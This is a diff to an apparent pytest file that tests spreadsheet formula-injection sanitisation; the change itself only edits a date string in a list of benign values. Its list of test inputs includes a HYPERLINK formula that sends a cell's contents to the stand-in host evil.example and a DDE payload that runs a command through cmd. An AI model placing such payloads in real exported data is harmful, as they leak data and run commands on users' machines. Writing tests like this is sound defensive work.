@@ -20,7 +20,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?"&C2,"x")', "+cmd|' /C calc'!A0",
             "\n=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "=", "-",
             "+44 1622 602000", "-- not a number", "@home"]
 PLAIN = ["Drugs", "-5", "+5", "1,234", "-3.5e2", "12.5%", "", "Anti-social behaviour",
-         "Jan 25 – Dec 25", "A=B", "x+1"]
+         "Jan 2025 – Dec 2025", "A=B", "x+1"]
 
 
 @pytest.mark.parametrize("text", FORMULAS)
